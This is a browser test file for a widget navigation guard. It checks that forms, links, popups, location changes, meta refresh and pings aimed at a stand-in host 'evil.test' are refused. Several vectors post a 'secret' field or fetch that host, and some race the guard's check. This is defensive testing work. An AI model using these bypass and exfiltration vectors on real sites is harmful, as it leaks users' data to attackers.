// Navigation sinks: forms, the widget frame's own navigations, links and popups. A navigation
// that gets through takes the page away, so each vector reports either the guard's refusal or
// "navigated away", and the servers' log says whether the unlisted origin was reached.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { OPTIONS, PAGE_CSP, PAGE_HELPERS, assertNothingLeaked, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();

// In the page: `refusal(run)` runs `run()` and resolves with the guard's report of the refusal
// (`sink blockedURL`), or "no refusal" after 5 s; `body(html)` replaces the page's body.
const REFUSAL = `
  window.refusal = (run) => new Promise((resolve) => {
    const seen = (e) => { document.removeEventListener('widget-guard:violation', seen); resolve(e.detail.sink + ' ' + e.detail.blockedURL); };
    document.addEventListener('widget-guard:violation', seen);
    setTimeout(() => resolve('no refusal'), 5000);
    run();
  });
  window.body = (html) => { document.body.innerHTML = html; return document.body.firstElementChild; };`;

/** Each vector in its own page, side by side (one that got through navigates its page away): what each page reported. */
async function eachInOwnPage(vectors, options = OPTIONS) {
  const outcomes = await Promise.all(Object.values(vectors).map(async (vector) => {
    const page = await session.browser.open({ options, csp: PAGE_CSP, afterInstall: PAGE_HELPERS + REFUSAL });
    const outcome = await page.evaluate(`guardReady.then(() => (${vector})())`).catch((error) => (/destroyed|navigation/i.test(error.message) ? 'navigated away' : error.message));
    await page.close();
    return outcome;
  }));
  return Object.fromEntries(Object.keys(vectors).map((name, i) => [name, outcomes[i]]));
}

test('forms: a button\'s formaction, an image input\'s formaction, an action or formaction changed by a later submit listener, a form of a fresh frame, target=_blank → refused; nothing reaches the server (guard)', async () => {
  const evil = (name) => `https://evil.test/adv-forms/${name}`;
  const outcomes = await eachInOwnPage({
    buttonFormaction: `() => refusal(() => body('<form action="https://docs.test/ok" method="post"><button formaction="${evil('button')}">go</button></form>').querySelector('button').click())`,
    imageInputFormaction: `() => refusal(() => body('<form action="https://docs.test/ok" method="post"><input type="image" formaction="${evil('image-input')}"></form>').querySelector('input').click())`,
    // The browser reads the action after the submit event: the guard's check at submit can be stale.
    actionChangedAfterCheck: `() => refusal(() => {
      const form = body('<form action="https://docs.test/ok" method="post"><input name="q" value="secret"></form>');
      form.addEventListener('submit', () => { form.action = '${evil('changed-action')}'; });
      form.requestSubmit();
    })`,
    formactionChangedAfterCheck: `() => refusal(() => {
      const form = body('<form action="https://docs.test/ok" method="post"><button>go</button></form>');
      form.addEventListener('submit', (e) => e.submitter.setAttribute('formaction', '${evil('changed-formaction')}'));
      form.querySelector('button').click();
    })`,
    freshFrameForm: `() => refusal(() => {
      const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
      frame.document.body.innerHTML = '<form action="${evil('frame-form')}" method="post" target="_top"></form>';
      frame.HTMLFormElement.prototype.requestSubmit.call(frame.document.forms[0]);
    })`,
    targetBlank: `() => refusal(() => body('<form action="${evil('target-blank')}" method="post" target="_blank"></form>').requestSubmit())`,
  });
  assertNothingLeaked('adv-forms');
  assert.deepEqual(outcomes, {
    buttonFormaction: `form-submit ${evil('button')}`,
    imageInputFormaction: `form-submit ${evil('image-input')}`,
    actionChangedAfterCheck: `navigation ${evil('changed-action')}`,
    formactionChangedAfterCheck: `navigation ${evil('changed-formaction')}`,
    freshFrameForm: `form-submit ${evil('frame-form')}`,
    targetBlank: `form-submit ${evil('target-blank')}`,
  });
});

test('links into another window (target=_blank, a named window, <base target>, <area>, SVG <a> with href or xlink:href, a download) → refused against the redirects list, as window.open is (guard)', async () => {
  const page = await session.open(REFUSAL);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const evil = (name) => `https://evil.test/adv-links/${name}`;
    const click = (html) => () => body(html).querySelector('[data-click]').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    const outcomes = {
      blank: await refusal(click(`<p><a data-click href="${evil('blank')}" target="_blank">x</a></p>`)),
      named: await refusal(click(`<p><a data-click href="${evil('named')}" target="elsewhere">x</a></p>`)),
      baseTarget: await refusal(click(`<p><base target="_blank"><a data-click href="${evil('base-target')}">x</a></p>`)),
      area: await refusal(click(`<p><map name="m"><area data-click shape="default" href="${evil('area')}" target="_blank"></map></p>`)),
      svg: await refusal(click(`<svg><a href="${evil('svg')}" target="_blank"><text data-click y="10">x</text></a></svg>`)),
      svgXlink: await refusal(click(`<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${evil('svg-xlink')}" target="_blank"><text data-click y="10">x</text></a></svg>`)),
      download: await refusal(click(`<p><a data-click href="${evil('download')}" target="_blank" download>x</a></p>`)),
    };
    body('<p><a data-click href="https://docs.test/adv-links/allowed" target="_blank">x</a></p>').querySelector('a').click();
    return outcomes;
  });
  await waitForServed('docs.test/adv-links/allowed'); // a listed destination opens: popups work in this browser
  assertNothingLeaked('adv-links');
  const evil = (name) => `navigation https://evil.test/adv-links/${name}`;
  assert.deepEqual(outcomes, { blank: evil('blank'), named: evil('named'), baseTarget: evil('base-target'), area: evil('area'), svg: evil('svg'), svgXlink: evil('svg-xlink'), download: evil('download') });
  await page.close();
});

test('location navigation of the widget frame: assign, replace, href, location =, pathname, a javascript: URL, navigation.navigate, window.open(_self), a self link, <meta refresh>, a fresh frame setting its parent\'s location → cancelled; fragments and pushState stay (guard)', async () => {
  const page = await session.open(REFUSAL);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const evil = (name) => `https://evil.test/adv-location/${name}`;
    const outcomes = {
      assign: await refusal(() => location.assign(evil('assign'))),
      replace: await refusal(() => location.replace(evil('replace'))),
      href: await refusal(() => { location.href = evil('href'); }),
      location: await refusal(() => { window.location = evil('location'); }),
      pathname: await refusal(() => { location.pathname = '/adv-location/pathname'; }),
      javascriptURL: await refusal(() => { location.href = `javascript:fetch('${evil('javascript-url')}')`; }),
      navigationNavigate: await refusal(() => navigation.navigate(evil('navigate')).committed.catch(() => {})),
      openSelf: await refusal(() => window.open(evil('open-self'), '_self')),
      selfLink: await refusal(() => body(`<p><a href="${evil('self-link')}">x</a></p>`).querySelector('a').click()),
      metaRefresh: await refusal(() => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${evil('meta-refresh')}` }))),
      fromFrame: await refusal(() => { document.body.appendChild(document.createElement('iframe')).contentWindow.parent.location.href = evil('from-frame'); }),
    };
    location.hash = 'still-here';
    history.pushState({}, '', '/adv-location/pushed');
    return { ...outcomes, stillHere: location.pathname };
  });
  assertNothingLeaked('adv-location');
  const evil = (sink, name) => `${sink} https://evil.test/adv-location/${name}`;
  assert.deepEqual(outcomes, {
    assign: evil('navigation', 'assign'), replace: evil('navigation', 'replace'), href: evil('navigation', 'href'), location: evil('navigation', 'location'),
    pathname: 'navigation https://widget.test/adv-location/pathname', javascriptURL: evil('fetch', 'javascript-url'), navigationNavigate: evil('navigation', 'navigate'),
    openSelf: evil('window-open', 'open-self'), selfLink: evil('navigation', 'self-link'), metaRefresh: evil('navigation', 'meta-refresh'),
    fromFrame: evil('navigation', 'from-frame'), stillHere: '/adv-location/pushed',
  });
  await page.close();
});

test('stated limit: a link href or form action changed by a later listener, into a new window, and top.location: the guard alone lets the raced ones through; in the host\'s sandboxed frame (no allow-popups, allow-forms, allow-top-navigation) nothing leaves (sandbox)', async () => {
  /** In the page: a link and a form approved on click/submit, then pointed at evil.test/<marker> by a listener that runs after the guard's. */
  const race = (frame, marker) => frame.evaluate(async (marker) => {
    await guardReady;
    const evil = (name) => `https://evil.test/${marker}/${name}`;
    document.body.innerHTML = `<a href="https://docs.test/${marker}/ok" target="_blank">x</a>
      <form action="https://docs.test/${marker}/ok" method="post" target="_blank"></form>`;
    const [link, form] = [document.querySelector('a'), document.querySelector('form')];
    link.addEventListener('click', () => { link.href = evil('raced-link'); });
    form.addEventListener('submit', () => { form.action = evil('raced-form'); });
    link.click();
    form.requestSubmit();
    let top = 'not framed';
    if (window.top !== window) top = (await attempt(() => { window.top.location.href = evil('top'); })).error;
    await fetch(`https://api.test/v1/${marker}/done`);
    return top;
  }, marker);
  const unframed = await session.browser.open({ options: OPTIONS, csp: PAGE_CSP });
  await race(unframed, 'adv-race-alone');
  for (const name of ['raced-link', 'raced-form']) await waitForServed(`evil.test/adv-race-alone/${name}`);
  await unframed.close();
  const framed = await session.browser.open({ options: OPTIONS, csp: PAGE_CSP, host: '' });
  assert.equal(await race(framed.widget, 'adv-race-sandboxed'), 'SecurityError', 'the sandbox refuses to navigate the host');
  await waitForServed('api.test/v1/adv-race-sandboxed/done');
  assertNothingLeaked('adv-race-sandboxed');
  assert.equal(new URL(framed.url()).host, 'host.test', 'the host page was not navigated');
  await framed.close();
});

test('inside shadow roots (open and closed): a link into another window, a <a ping>, a form submission → refused; a listed destination opens (guard)', async () => {
  const page = await session.open(REFUSAL);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const evil = (name) => `https://evil.test/adv-shadow-nav/${name}`;
    // A click or submit inside a shadow root reaches the window's listeners with the host as its
    // target (a closed root), or not at all (submit is not composed).
    const inShadow = (mode, html) => {
      const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode });
      root.innerHTML = html;
      return root.firstElementChild;
    };
    const outcomes = {};
    for (const mode of ['open', 'closed']) {
      outcomes[`${mode}Link`] = await refusal(() => inShadow(mode, `<a href="${evil(mode + '-link')}" target="_blank">x</a>`).click());
      outcomes[`${mode}Ping`] = await refusal(() => inShadow(mode, `<a href="#here" ping="${evil(mode + '-ping')}">x</a>`).click());
      outcomes[`${mode}Form`] = await refusal(() => inShadow(mode, `<form action="${evil(mode + '-form')}" method="post" target="_blank"><input name="q" value="secret"></form>`).requestSubmit());
    }
    inShadow('closed', '<a href="https://docs.test/adv-shadow-nav/allowed" target="_blank">x</a>').click();
    return outcomes;
  });
  await waitForServed('docs.test/adv-shadow-nav/allowed');
  assertNothingLeaked('adv-shadow-nav');
  const evil = (sink, name) => `${sink} https://evil.test/adv-shadow-nav/${name}`;
  assert.deepEqual(outcomes, {
    openLink: evil('navigation', 'open-link'), openPing: evil('ping', 'open-ping'), openForm: evil('form-submit', 'open-form'),
    closedLink: evil('navigation', 'closed-link'), closedPing: evil('ping', 'closed-ping'), closedForm: evil('form-submit', 'closed-form'),
  });
  await page.close();
});
